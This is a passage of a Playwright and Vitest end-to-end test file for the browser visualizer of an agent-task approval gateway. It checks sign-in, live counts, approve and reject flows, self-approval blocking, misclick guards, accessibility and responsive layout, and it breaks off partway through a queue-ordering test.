import { type ChildProcess, spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium, type Page, type Request } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';

/**
 * The visualizer in real Chromium against the real server binary: sign in, the chart and its
 * live counts, the queue (approve, reject without a reason, self-approval), the task detail,
 * the inspector, and the page when the server goes away. Debian's chromium is required: a
 * missing browser fails this file, it does not skip it.
 */
const CHROMIUM = '/usr/bin/chromium';
const SHOTS = join(process.cwd(), 'test-results', 'visualizer');
const TOKENS = {
  alice: 'e2e-alice-token-000000000000000000000',
  sam: 'e2e-sam-token-0000000000000000000000000',
  agent: 'e2e-agent-token-000000000000000000000',
  bob: 'e2e-bob-token-00000000000000000000000000',
  carol: 'e2e-carol-token-0000000000000000000000000',
};
const GRANTS = [
  { token: TOKENS.alice, principal: { id: 'alice', roles: ['approver'], maxRisk: 'critical' } },
  { token: TOKENS.bob, principal: { id: 'bob', roles: ['approver'], maxRisk: 'critical' } },
  { token: TOKENS.sam, principal: { id: 'sam', roles: ['agent', 'approver'], maxRisk: 'critical' } },
  { token: TOKENS.carol, principal: { id: 'carol', roles: ['approver'] } },
  { token: TOKENS.agent, principal: { id: 'agent-atlas', roles: ['agent'] } },
];
const STATES = ['proposed', 'evaluating', 'autoApproved', 'awaitingHuman', 'parked', 'resumed', 'reevaluating', 'executing', 'completed', 'failed', 'denied', 'rerouted', 'expired', 'cancelled'];

let dir: string;
let server: ChildProcess;
let url: string;
let browser: Browser;
let page: Page;
/** The server's last log lines, and the page's requests still open: said when a test fails. */
let serverLog = '';
const openRequests = new Map<Request, number>();

async function startServer(): Promise<string> {
  // TOLLGATE_E2E_PORT: a fixed port where only some are free to use (a shared machine); else any free one.
  server = spawn(process.execPath, ['bin/tollgate.mjs', 'serve', '--port', process.env.TOLLGATE_E2E_PORT ?? '0', '--db', `sqlite:${join(dir, 'e2e.db')}`, '--tokens', join(dir, 'tokens.json'), '--log-level', 'warn'], {
    cwd: process.cwd(),
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stderr = '';
  server.stderr?.on('data', (chunk) => {
    stderr += chunk;
    serverLog = `${serverLog}${chunk}`.slice(-4_000);
  });
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`server did not start: ${stderr}`)), 30_000);
    let out = '';
    server.stdout?.on('data', (chunk) => {
      out += chunk;
      const match = /listening on (http:\/\/\S+)/.exec(out);
      if (match) {
        clearTimeout(timer);
        resolve(match[1]!);
      }
    });
    server.once('exit', (code) => reject(new Error(`server exited with ${code}: ${stderr}`)));
  });
}

async function api(method: string, path: string, token: string, body?: unknown): Promise<any> {
  const response = await fetch(`${url}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
  });
  const text = await response.text();
  if (!response.ok) throw new Error(`${method} ${path} answered ${response.status}: ${text}`);
  return JSON.parse(text);
}

const submit = (token: string, proposal: Record<string, unknown>) => api('POST', '/api/v1/tasks', token, proposal).then((answer) => answer.task);
const badge = (state: string) => page.locator(`[data-state="${state}"] .badge-text`);
const shot = (name: string) => page.screenshot({ path: join(SHOTS, `${name}.png`) });
/** The text of what has keyboard focus (a button's label). */
const focused = () => page.evaluate(() => (globalThis as any).document.activeElement?.textContent);
/** What has keyboard focus, as a user would name it: its tag and its label (or text), for boxes whose text is their content. */
const focusedControl = () =>
  page.evaluate(() => {
    const active = (globalThis as any).document.activeElement;
    return active ? `${active.tagName.toLowerCase()} ${active.getAttribute('aria-label') ?? active.textContent}` : null;
  });

async function signIn(token: string): Promise<void> {
  await page.fill('#token', token);
  await page.click('.sign-in-form button[type=submit]');
  await page.waitForSelector('.chart-svg [data-state="parked"]', { timeout: 15_000 });
  await expect.poll(() => page.textContent('.connection')).toBe('Live');
}

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: install Debian's chromium (apt-get install -y chromium); browser tests never skip`);
  mkdirSync(SHOTS, { recursive: true });
  dir = mkdtempSync(join(tmpdir(), 'tollgate-e2e-'));
  writeFileSync(join(dir, 'tokens.json'), JSON.stringify(GRANTS));
  [url, browser] = await Promise.all([
    startServer(),
    chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'] }),
  ]);
  page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  page.on('pageerror', (error) => {
    throw error;
  });
  page.on('request', (request) => openRequests.set(request, Date.now()));
  page.on('requestfinished', (request) => openRequests.delete(request));
  page.on('requestfailed', (request) => openRequests.delete(request));
});

// This file once failed in CI from one test on (the page stuck on "Connecting…", then no
// queue tab, then no chart after a reload) and passed on the next run: what the page and the
// server were doing is printed with the failure, for the next time.
beforeEach(({ onTestFailed }) => {
  onTestFailed(async () => {
    const now = Date.now();
    const requests = [...openRequests].map(([request, since]) => `${request.method()} ${request.url()} (open ${now - since} ms)`);
    const connection = await page.textContent('.connection', { timeout: 1_000 }).catch(() => '(none)');
    const body = await page.evaluate(() => (globalThis as any).document.body.textContent.slice(0, 600)).catch(() => '(unreadable)');
    console.error(
      [`page: ${page.url()} · connection: ${connection}`, `open requests: ${requests.join('; ') || 'none'}`, `page text: ${body}`, `server (exit ${server.exitCode ?? server.signalCode ?? 'none'}) log tail:\n${serverLog}`].join('\n'),
    );
  });
});

afterAll(async () => {
  await browser?.close();
  if (server && server.exitCode === null && server.signalCode === null) {
    server.kill('SIGTERM');
    await new Promise((resolve) => server.once('exit', resolve));
  }
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/**
 * Opens a card's review (what is asked) and waits until its request is on screen, as an approver
 * must before any decision is offered.
 */
async function review(card: ReturnType<Page['locator']>): Promise<void> {
  const toggle = card.locator('button.review-toggle');
  if ((await toggle.getAttribute('aria-expanded')) !== 'true') await toggle.click();
  await card.locator('.card-review pre.json').first().waitFor();
}

/**
 * Three pushes reviewed in the queue (the same layout each), in a window tall enough that the
 * middle one's Approve is in view at the end of the queue's scroll, scrolled there, none of the
 * top two still settling; the pointer rests on the middle one's Approve. For the tests of cards
 * that slide under the pointer.
 */
async function threeCardsAtTheEnd(label: string, names: [string, string, string], ttlFrom: number) {
  await page.click('#tab-queue');
  const approvals = await Promise.all(
    names.map((name, i) => submit(TOKENS.agent, { actionType: 'vcs:push', title: `Push ${label} branch ${name}`, args: { branch: `${label}/${name.toLowerCase()}` }, ttlSeconds: ttlFrom + 10 * i })),
  );
  const cards = approvals.map((approval) => page.locator(`.card[data-approval-id="${approval.approvalId}"]`));
  await page.setViewportSize({ width: 1280, height: 1300 });
  for (const card of cards) await review(card);
  await expect.poll(() => cards[0]!.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(false);
  const scroller = page.locator('.queue-scroll');
  await scroller.evaluate((element) => {
    element.scrollTop = element.scrollHeight;
  });
  expect(await scroller.evaluate((element) => element.scrollTop > 0 && element.scrollTop + element.clientHeight >= element.scrollHeight - 1)).toBe(true);
  for (const card of cards.slice(0, 2)) await expect.poll(() => card.evaluate((element) => element.classList.contains('settling'))).toBe(false);
  const box = (await cards[1]!.locator('button', { hasText: 'Approve' }).boundingBox())!;
  const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
  await page.mouse.move(x, y);
  /** The approval of the card under the pointer ('' for none). */
  const cardAt = () => page.evaluate(([px, py]) => (globalThis as any).document.elementFromPoint(px, py)?.closest('.card')?.dataset.approvalId ?? '', [x, y]);
  expect(await cardAt()).toBe(approvals[1].approvalId);
  return { approvals, cards, scroller, x, y, cardAt };
}

/** What the toasts say, without the bidi isolates around quoted text (U+2068, U+2069). */
const toastText = async () => (await page.textContent('.toasts'))?.replace(/[\u2068\u2069]/g, '') ?? '';

describe('visualizer (Chromium)', () => {
  it('asks for a token first, refuses an unknown one, and keeps it out of the URL', async () => {
    await page.goto(`${url}/`);
    await page.waitForSelector('#token');
    expect(await page.locator('#token-help code').allTextContents()).toEqual(['npm start', '--tokens FILE']);
    expect(await page.textContent('#token-help')).not.toContain('`');
    await shot('0-sign-in');
    await page.fill('#token', 'not-a-token');
    await page.click('.sign-in-form button[type=submit]');
    await expect.poll(() => page.textContent('.sign-in .form-error')).toContain('does not know this token');
    await signIn(TOKENS.alice);
    expect(page.url()).toBe(`${url}/`);
    expect(await page.evaluate(() => (globalThis as unknown as { sessionStorage: { getItem(key: string): string | null } }).sessionStorage.getItem('tollgate.token'))).toBe(TOKENS.alice);
  });

  it('draws the task machine with every state, and an empty queue', async () => {
    for (const state of STATES) await expect.poll(() => page.locator(`.chart-svg [data-state="${state}"]`).count()).toBe(1);
    expect(await page.locator('.chart-svg .edge').count()).toBeGreaterThan(15);
    expect(await page.locator('.edge-label', { hasText: 'EVALUATE' }).count()).toBe(1);
    await expect.poll(() => page.textContent('.queue-empty')).toContain('Nothing waits for a decision');
    await expect.poll(() => page.textContent('.tasks-panel .empty')).toContain('No tasks yet');
    // The command it names exists (it said `tollgate tasks submit`, which the CLI refuses).
    expect(await page.textContent('.tasks-panel .empty')).toContain('tollgate tasks propose');
  });

  it('counts tasks on the chart live as they are submitted through the API', async () => {
    await submit(TOKENS.agent, { actionType: 'code:read', title: 'Read the billing module', args: { path: 'src/billing.ts' } });
    await submit(TOKENS.agent, { actionType: 'vcs:push', title: 'Push the release branch', args: { branch: 'release/1.4' }, ttlSeconds: 3_600 });
    await submit(TOKENS.agent, { actionType: 'deploy:production', title: 'Deploy 1.4.0 to production', args: { version: '1.4.0' }, ttlSeconds: 900 });
    await submit(TOKENS.agent, { actionType: 'comms:external', title: 'Email the customer about the outage', args: { to: 'ops@customer.example' } });
    await expect.poll(() => badge('completed').textContent()).toBe('1');
    await expect.poll(() => badge('parked').textContent()).toBe('3');
    await expect.poll(() => page.locator('.task-row').count()).toBe(4);
    await expect.poll(() => page.locator('.cards .card').count()).toBe(3);
    // Highest risk first, then the nearest deadline.
    const titles = await page.locator('.cards .card-title').allTextContents();
    expect(titles).toEqual(['Deploy 1.4.0 to production', 'Push the release branch', 'Email the customer about the outage']);
    await expect.poll(() => page.textContent('.cards .card >> nth=0 >> .countdown')).toMatch(/^1[45]m \d\ds$/);
    // A right-to-left override in one title cannot reorder the text around it.
    const bidi = (selector: string) => page.locator(selector).first().evaluate((element) => (globalThis as any).getComputedStyle(element).unicodeBidi);
    for (const title of ['.task-row .task-title strong', '.cards .card-title']) expect(await bidi(title)).toBe('isolate');
    await shot('1-live');
  });

  it('approves from the queue only after the request is on screen, and shows the task completing', async () => {
    // Found by an approver's trial: Approve sat on the card, one click from arguments never seen.
    const card = page.locator('.card', { hasText: 'Push the release branch' });
    expect(await card.locator('button', { hasText: 'Approve' }).isVisible()).toBe(false);
    // The task is read when the card is opened (held here, to see the card while it waits).
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    const { taskId } = await api('GET', `/api/v1/approvals/${await card.getAttribute('data-approval-id')}`, TOKENS.alice);
    const task = await api('GET', `/api/v1/tasks/${taskId}`, TOKENS.alice);
    let continued: Promise<void> = Promise.resolve();
    await page.route(
      `**/api/v1/tasks/${taskId}`,
      (route) => {
        continued = held.then(() => route.continue());
      },
      { times: 1 },
    );
    try {
      await card.locator('button', { hasText: 'Review request' }).click();
      expect(await card.locator('button.review-toggle').getAttribute('aria-expanded')).toBe('true');
      await expect.poll(() => card.locator('.decision-note').textContent()).toBe('Reading the request… Deciding waits until its arguments are on screen.');
      for (const verb of ['Approve', 'Reject', 'Reroute']) expect(await card.locator('button', { hasText: verb }).isDisabled()).toBe(true);
      expect(await card.locator('button', { hasText: 'Approve' }).getAttribute('title')).toMatch(/^Reading the request/);
      release();
    } finally {
      release();
      await continued;
      await page.unroute(`**/api/v1/tasks/${taskId}`);
    }
    await expect.poll(() => card.locator('.card-review pre.json').textContent()).toBe('{\n  "branch": "release/1.4"\n}');
    expect(await card.locator('.review-reason').textContent()).toBe(`${task.verdict.decision} ${task.verdict.reason}`);
    expect(await card.locator('.card-review [aria-label="Matched rules"] li').allTextContents()).toEqual(task.verdict.matchedRules);
    await expect.poll(() => card.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(false);
    expect(await card.locator('.decision-note').isVisible()).toBe(false);
    await shot('2-review-before-approve');
    await card.locator('button', { hasText: 'Approve' }).click();
    await expect.poll(toastText).toContain('Approved “Push the release branch” — the task is completed');
    // The toast covers no button of the queue, and takes no click (found by a new-user trial: it hid the next card's Approve).
    const overlap = await page.evaluate(() => {
      type Box = { left: number; right: number; top: number; bottom: number; width: number };
      type Element = { getBoundingClientRect(): Box };
      const { document, getComputedStyle } = globalThis as unknown as {
        document: { querySelectorAll(selector: string): ArrayLike<Element>; querySelector(selector: string): Element };
        getComputedStyle(element: Element): { pointerEvents: string };
      };
      const toasts = Array.from(document.querySelectorAll('.toast'), (toast) => toast.getBoundingClientRect());
      const buttons = Array.from(document.querySelectorAll('.cards button'), (button) => button.getBoundingClientRect()).filter((box) => box.width > 0);
      const meets = (a: Box, b: Box) => a.left < b.right && b.left < a.right && a.top < b.bottom && b.top < a.bottom;
      return { covered: buttons.filter((button) => toasts.some((toast) => meets(toast, button))).length, pointerEvents: getComputedStyle(document.querySelector('.toasts')).pointerEvents };
    });
    expect(overlap).toEqual({ covered: 0, pointerEvents: 'none' });
    await expect.poll(() => badge('completed').textContent()).toBe('2');
    await expect.poll(() => badge('parked').textContent()).toBe('2');
    await expect.poll(() => card.count()).toBe(0);
    await page.locator('.task-row', { hasText: 'Push the release branch' }).focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => page.textContent('.detail .detail-head')).toContain('completed');
    // proposed → evaluating → awaitingHuman → parked → resumed → executing → completed
    await expect.poll(() => page.locator('.chart-svg .edge.on-path').count()).toBe(6);
    expect(await page.textContent('.detail')).toContain('alice');
    await shot('2-approved-detail');
  });

  it('fits a phone (one column, no sideways scroll) and a tablet (task rows keep their titles)', async () => {
    const layout = () =>
      page.evaluate(() => {
        const d = (globalThis as any).document;
        const width = (selector: string) => d.querySelector(selector)?.getBoundingClientRect().width ?? 0;
        return {
          scrollWidth: d.documentElement.scrollWidth,
          tasks: width('.tasks-panel'),
          title: width('.task-row .task-title'),
          signOutRight: d.querySelector('.who button').getBoundingClientRect().right,
        };
      });
    try {
      await page.setViewportSize({ width: 400, height: 800 });
      await expect.poll(async () => (await layout()).scrollWidth).toBeLessThanOrEqual(400);
      const phone = await layout();
      expect(phone.tasks).toBeGreaterThan(350);
      expect(phone.title).toBeGreaterThan(120);
      expect(phone.signOutRight).toBeLessThanOrEqual(400);
      await shot('9-phone');
      // The chart on a phone: fitted to the width, its labels were 4 px high and its states 10 px
      // (found by a trial at 390 × 844). It keeps its size and scrolls sideways in its panel, the
      // page does not; a state off to the right is scrolled to and tapped, and filters the list.
      // The chart's size at a viewport: its parked state's label and box, whether its panel scrolls, the page's width.
      const chartAt = async (width: number, height: number) => {
        await page.setViewportSize({ width, height });
        return page.evaluate(() => {
          const d = (globalThis as any).document;
          const canvas = d.querySelector('.chart-canvas');
          return {
            label: d.querySelector('[data-state="parked"] .state-name').getBoundingClientRect().height,
            state: d.querySelector('[data-state="parked"] .box').getBoundingClientRect().height,
            scrolls: canvas.scrollWidth > canvas.clientWidth,
            pageWidth: d.documentElement.scrollWidth,
          };
        });
      };
      const chart = await chartAt(390, 844);
      expect(chart.label).toBeGreaterThanOrEqual(10);
      expect(chart.state).toBeGreaterThanOrEqual(40);
      expect([chart.scrolls, chart.pageWidth]).toEqual([true, 390]);
      await page.click('.chart-svg [data-state="parked"]');
      await expect.poll(() => page.inputValue('#filter-state')).toBe('parked');
      await expect.poll(async () => [...new Set(await page.locator('.task-row .cell-state .pill').allTextContents())]).toEqual(['parked']);
      await shot('9-phone-chart');
      await page.click('.filters button:has-text("Clear")');
      await expect.poll(() => page.inputValue('#filter-state')).toBe('');
      await page.setViewportSize({ width: 768, height: 1024 });
      await expect.poll(async () => (await layout()).scrollWidth).toBeLessThanOrEqual(768);
      expect((await layout()).title).toBeGreaterThan(120);
      await shot('9-tablet');
      // Portrait tablets: fitted to the width, the chart's labels were 8 px and its states 20 px
      // (768 × 1024). It keeps a readable size and scrolls sideways as on phones; in landscape
      // (1024 px) it fits its panel again, the whole machine in view.
      for (const [width, height] of [[768, 1024], [820, 1180]] as const) {
        const tablet = await chartAt(width, height);
        expect(tablet.label, `label at ${width} px`).toBeGreaterThanOrEqual(11);
        expect(tablet.state, `state at ${width} px`).toBeGreaterThanOrEqual(34);
        expect([tablet.scrolls, tablet.pageWidth], `at ${width} px`).toEqual([true, width]);
      }
      await shot('9-tablet-chart');
      expect(await chartAt(1024, 768)).toMatchObject({ scrolls: false, pageWidth: 1024 });
      // Widths where the task panel was just too wide for two-line rows, so the six columns left
      // the title 74–134 px ("Pushed…"; found by a new-user trial in a 700 px window).
      for (const width of [700, 760, 1100, 1200]) {
        await page.setViewportSize({ width, height: 900 });
        await expect.poll(async () => (await layout()).title, { message: `title at ${width} px` }).toBeGreaterThan(180);
      }
    } finally {
      await page.setViewportSize({ width: 1280, height: 800 });
    }
  });

  it('refuses a rejection without a reason, then rejects with one', async () => {
    await page.click('#tab-queue');
    const card = page.locator('.card', { hasText: 'Email the customer' });
    await review(card);
    expect(await card.locator('.card-review pre.json').textContent()).toContain('"to": "ops@customer.example"');
    await card.locator('button', { hasText: 'Reject' }).click();
    await card.locator('form button[type=submit]').click();
    await expect.poll(() => card.locator('.field-error').textContent()).toBe('Give a reason: the agent and the audit log will see it.');
    expect(await card.locator('textarea[name=reason]').getAttribute('aria-invalid')).toBe('true');
    await shot('3-reject-needs-reason');
    await card.locator('textarea[name=reason]').fill('Wait for the incident review');
    await card.locator('form button[type=submit]').click();
    await expect.poll(toastText).toContain('Rejected “Email the customer about the outage” — the task is denied');
    await expect.poll(() => badge('denied').textContent()).toBe('1');
  });

  it('is keyboard reachable: a state on the chart lists its tasks with Enter', async () => {
    await page.locator('.chart-svg [data-state="denied"]').focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => page.inputValue('#filter-state')).toBe('denied');
    await expect.poll(() => page.locator('.task-row').count()).toBe(1);
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => (globalThis as unknown as { document: { activeElement: { getAttribute(name: string): string | null } } }).document.activeElement.getAttribute('data-state'))).not.toBeNull();
    await page.click('.filters button:has-text("Clear")');
    await expect.poll(() => page.locator('.task-row').count()).toBe(4);
    // From the top of the page, the first Tab offers the queue; the next a card's review; Enter opens it,
    // and Tab goes through what is asked (the arguments' box scrolls by keyboard) to Approve.
    await page.reload();
    await page.waitForSelector('.cards .card button.review-toggle');
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('Skip to the approval queue');
    await page.keyboard.press('Enter');
    expect(await page.evaluate(() => (globalThis as any).document.activeElement?.id)).toBe('queue-title');
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('Review request');
    await page.keyboard.press('Enter');
    const first = page.locator('.cards .card').first();
    await expect.poll(() => first.locator('.card-review pre.json').textContent()).toBe('{\n  "version": "1.4.0"\n}');
    await expect.poll(() => first.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(false);
    await expect.poll(() => first.evaluate((card) => card.classList.contains('settling'))).toBe(false);
    expect(await focused()).toBe('Hide request');
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('Open task');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => (globalThis as any).document.activeElement?.getAttribute('aria-label'))).toBe('Arguments of this request');
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('Approve');
    for (let i = 0; i < 3; i++) await page.keyboard.press('Shift+Tab');
    expect(await focused()).toBe('Hide request');
    await page.keyboard.press('Enter');
    expect(await first.locator('.card-review').isVisible()).toBe(false);
    // The task list is one tab stop: the arrow keys move between its rows, Tab leaves it.
    const focusedTask = () => page.evaluate(() => (globalThis as any).document.activeElement?.dataset?.taskId ?? null);
    const ids = await page.locator('.task-row').evaluateAll((rows) => rows.map((row) => (row as any).dataset.taskId as string));
    expect(await page.locator('.task-row[tabindex="0"]').count()).toBe(1);
    await page.locator('.task-row[tabindex="0"]').focus();
    const start = ids.indexOf(await focusedTask());
    await page.keyboard.press('Home');
    expect(await focusedTask()).toBe(ids[0]);
    await page.keyboard.press('ArrowDown');
    expect(await focusedTask()).toBe(ids[1]);
    await page.keyboard.press('End');
    expect(await focusedTask()).toBe(ids.at(-1));
    expect([start >= 0, await page.locator('.task-row[tabindex="0"]').count()]).toEqual([true, 1]);
    await page.keyboard.press('Tab');
    expect(await focusedTask()).toBeNull();
  });

  it('says why someone may not approve their own request', async () => {
    await submit(TOKENS.sam, { actionType: 'vcs:push', title: 'Sam pushes a hotfix', args: { branch: 'hotfix/1' } });
    await page.click('.who button');
    await signIn(TOKENS.sam);
    const card = page.locator('.card', { hasText: 'Sam pushes a hotfix' });
    // Said at once, not after a refused click: the decisions are disabled.
    await expect.poll(() => card.locator('.card-limit').textContent()).toBe('You requested this action, so someone else must decide on it.');
    expect(await card.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(true);
    expect(await card.locator('button', { hasText: 'Reject' }).isDisabled()).toBe(true);
    await shot('4-self-approval');
    await page.click('.who button');
    await signIn(TOKENS.alice);
  });

  it('a click never decides the approval that slid under the pointer after the one aimed at was decided elsewhere', async () => {
    await page.click('#tab-queue');
    const first = await submit(TOKENS.agent, { actionType: 'vcs:push', title: 'Push topic branch A', args: { branch: 'topic/a' }, ttlSeconds: 600 });
    const second = await submit(TOKENS.agent, { actionType: 'vcs:push', title: 'Push topic branch B', args: { branch: 'topic/b' }, ttlSeconds: 610 });
    // Cards under B, so that the queue can scroll A's opened card into view with room to spare.
    const fillers = await Promise.all([620, 630, 640, 650].map((ttlSeconds, i) => submit(TOKENS.agent, { actionType: 'vcs:push', title: `Push filler branch ${i}`, args: { branch: `filler/${i}` }, ttlSeconds })));
    const firstCard = page.locator('.card', { hasText: 'Push topic branch A' });
    const secondCard = page.locator('.card', { hasText: 'Push topic branch B' });
    await expect.poll(() => secondCard.count()).toBe(1);
    // Both reviewed (the same layout): B's Approve can come to sit where A's was.
    await review(firstCard);
    await review(secondCard);
    await expect.poll(() => secondCard.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(false);
    // A's Approve in view with enough queue under it: near the end of the queue's scroll, A's
    // going would pull every card down (the scroll's clamp) instead of B up.
    await firstCard.locator('button', { hasText: 'Approve' }).scrollIntoViewIfNeeded();
    // The pointer rests on A's Approve (and A has settled: its button takes clicks).
    await expect.poll(() => firstCard.evaluate((card) => card.classList.contains('settling'))).toBe(false);
    const box = (await firstCard.locator('button', { hasText: 'Approve' }).boundingBox())!;
    const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
    await page.mouse.move(x, y);
    // Someone else decides A: B moves up into its place, under the resting pointer...
    await api('POST', `/api/v1/approvals/${first.approvalId}/approve`, TOKENS.bob, {});
    await page.waitForFunction((title) => ![...(globalThis as any).document.querySelectorAll('.card-title')].some((t) => t.textContent === title), 'Push topic branch A');
    expect(await page.evaluate(([px, py]) => (globalThis as any).document.elementFromPoint(px, py)?.closest('.card')?.textContent ?? '', [x, y])).toContain('Push topic branch B');
    // ...and the click meant for A lands at once: it must not approve B (which says it just moved).
    expect(await page.evaluate(([px, py]) => (globalThis as any).document.elementFromPoint(px, py)?.className, [x, y])).toBe('settle-note');
    await page.mouse.click(x, y);
    await shot('8-queue-moved-under-pointer');
    await new Promise((resolve) => setTimeout(resolve, 300));
    const untouched = await api('GET', `/api/v1/approvals/${second.approvalId}`, TOKENS.alice);
    expect(untouched).toMatchObject({ status: 'pending', approvals: [] });
    // Once B has stayed put long enough to be seen, it takes the click.
    await expect.poll(() => secondCard.evaluate((card) => card.classList.contains('settling'))).toBe(false);
    await page.mouse.click(x, y);
    await expect.poll(toastText).toContain('Approved “Push topic branch B”');
    for (const filler of fillers) await api('POST', `/api/v1/approvals/${filler.approvalId}/reject`, TOKENS.alice, { reason: 'filler' });
  });

  it('a click never decides the approval that slid under the pointer when the queue, scrolled to its end, pulls the cards above a decided one down', async () => {
    // Found by a trial: at the end of the queue's scroll, a card going shortens the list, the
    // scroll position clamps, and every card above it moves down on screen without moving in the list.
    const { approvals, cards, x, y, cardAt } = await threeCardsAtTheEnd('slide', ['W', 'X', 'R'], 3_000);
    const [above, aimed, going] = approvals;
    const [aboveCard, goingCard] = [cards[0]!, cards[2]!];
    // Someone else decides the card below: the list shortens, the scroll clamps, the card above slides under the pointer...
    await api('POST', `/api/v1/approvals/${going.approvalId}/approve`, TOKENS.bob, {});
    await expect.poll(() => goingCard.count()).toBe(0);
    expect(await cardAt()).toBe(above.approvalId);
    // ...and it says it just moved: the click meant for the aimed card does not approve it.
    expect(await page.evaluate(([px, py]) => (globalThis as any).document.elementFromPoint(px, py)?.className, [x, y])).toBe('settle-note');
    await page.mouse.click(x, y);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await api('GET', `/api/v1/approvals/${above.approvalId}`, TOKENS.alice)).toMatchObject({ status: 'pending', approvals: [] });
    // Scrolling by hand moves nothing under a pointer unseen: it does not make the cards settle again.
    await expect.poll(() => aboveCard.evaluate((card) => card.classList.contains('settling'))).toBe(false);
    await page.mouse.wheel(0, -40);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(await aboveCard.evaluate((card) => card.classList.contains('settling'))).toBe(false);
    for (const approval of [above, aimed]) await api('POST', `/api/v1/approvals/${approval.approvalId}/reject`, TOKENS.alice, { reason: 'slide test' });
    await page.setViewportSize({ width: 1280, height: 800 });
  });

  it('a click never lands on a card that slid down because one below it shrank at the end of the queue’s scroll', async () => {
    // Left by the trial above: the guard saw cards move only when the queue changed. A card that
    // shrinks (its review closed, its settling note gone) at the end of the scroll also clamps the
    // scroll position, and every card above it slides down without moving in the list.
    const { approvals, cards, scroller, x, y, cardAt } = await threeCardsAtTheEnd('shrink', ['U', 'V', 'Z'], 3_100);
    const [above, aimed, shrinking] = approvals;
    const shrinkingCard = cards[2]!;
    const cardOf = (approvalId: string) => page.locator(`.card[data-approval-id="${approvalId}"]`);
    // The card below folds its review away (no pointer involved): the list shortens, the scroll clamps.
    const scrolledBefore = await scroller.evaluate((element) => element.scrollTop);
    await shrinkingCard.locator('button.review-toggle').evaluate((button) => (button as any).click());
    await expect.poll(() => scroller.evaluate((element) => element.scrollTop)).toBeLessThan(scrolledBefore - 50);
    // Whatever card is under the pointer now moved there unseen: it says so, and the click decides nothing.
    const under = await cardAt();
    expect(under).not.toBe('');
    expect(await cardOf(under).evaluate((element) => element.classList.contains('settling'))).toBe(true);
    await page.mouse.click(x, y);
    await new Promise((resolve) => setTimeout(resolve, 300));
    for (const approval of [above, aimed]) expect(await api('GET', `/api/v1/approvals/${approval.approvalId}`, TOKENS.alice)).toMatchObject({ status: 'pending', approvals: [] });
    for (const approval of [above, aimed, shrinking]) await api('POST', `/api/v1/approvals/${approval.approvalId}/reject`, TOKENS.alice, { reason: 'shrink test' });
    await page.setViewportSize({ width: 1280, height: 800 });
  });

  it('streams the inspection of a task’s actors', async () => {
    const parked = await submit(TOKENS.agent, { actionType: 'db:mutate', title: 'Backfill invoice totals', args: { sql: 'UPDATE invoices SET total = net + tax WHERE total IS NULL' } });
    await page.locator('.task-row', { hasText: 'Backfill invoice totals' }).click();
    await page.click('.detail button:has-text("Inspect its actors")');
    // Opening a task keeps the list newest first (it is the newest), not in the order tasks arrived.
    expect(await page.locator('.task-row .task-title strong').first().textContent()).toBe('Backfill invoice totals');
    await expect.poll(() => page.textContent('.inspector .stream-status')).toContain('live');
    await expect.poll(() => page.locator('.log-item').count()).toBeGreaterThan(5);
    expect(await page.textContent('.actor-tree')).toContain('secOps');
    await api('POST', `/api/v1/approvals/${parked.approvalId}/approve`, TOKENS.bob, { comment: 'checked the WHERE clause' });
    await expect.poll(() => page.locator('.log-item', { hasText: 'APPROVE' }).count()).toBeGreaterThan(0);
    await expect.poll(() => page.textContent('.actor-tree')).toContain('executor');
    // The log goes on growing as the task runs (each record redraws it): click again until the
    // click lands on the APPROVE record, not on whatever a redraw put under the pointer meanwhile.
    await expect
      .poll(async () => {
        await page.locator('.log-item.kind-event', { hasText: 'APPROVE' }).first().click();
        return page.textContent('.record-json');
      })
      .toContain('checked the WHERE clause');
    await shot('5-inspector');
    // The way back: the inspector opens the task it inspects.
    await page.click('.inspector button.inspector-open-task');
    await expect.poll(() => page.getAttribute('#tab-task', 'aria-selected')).toBe('true');
    await expect.poll(() => page.textContent('.detail')).toContain('Backfill invoice totals');
    await page.click('#tab-inspector');
    if (process.env.TOLLGATE_DOCS_SCREENSHOT) {
      await page.click('#tab-queue');
      await page.screenshot({ path: join(process.cwd(), 'docs', 'visualizer.png') });
    }
  });

  it('shows the most urgent approvals first when more are pending than fit: an old critical one is not pushed out by newer ones', async () => {
    await submit(TOKENS.agent, { actionType: 'db:admin', title: 'Rotate the primary database', args: { op: 'failover' } });
    // Newer than the critical one and more than a page: newest first would leave it out.
    for (let start = 0; start < 205; start += 41) {
      await Promise.all(
        Array.from({ length: 41 }, (_, i) => submit(TOKENS.agent, { actionType: 'vcs:push', title: `Push topic branch ${start + i}`, args: { branch: `topic/${start + i}` } })),
      );
    }
    const pending = (await api('GET', '/api/v1/approvals?status=pending&limit=1', TOKENS.alice)).total as number;
    expect(pending).toBeGreaterThan(200);
    await page.click('#tab-queue');
    await expect.poll(() => page.textContent('.queue .count-badge')).toBe(String(pending));
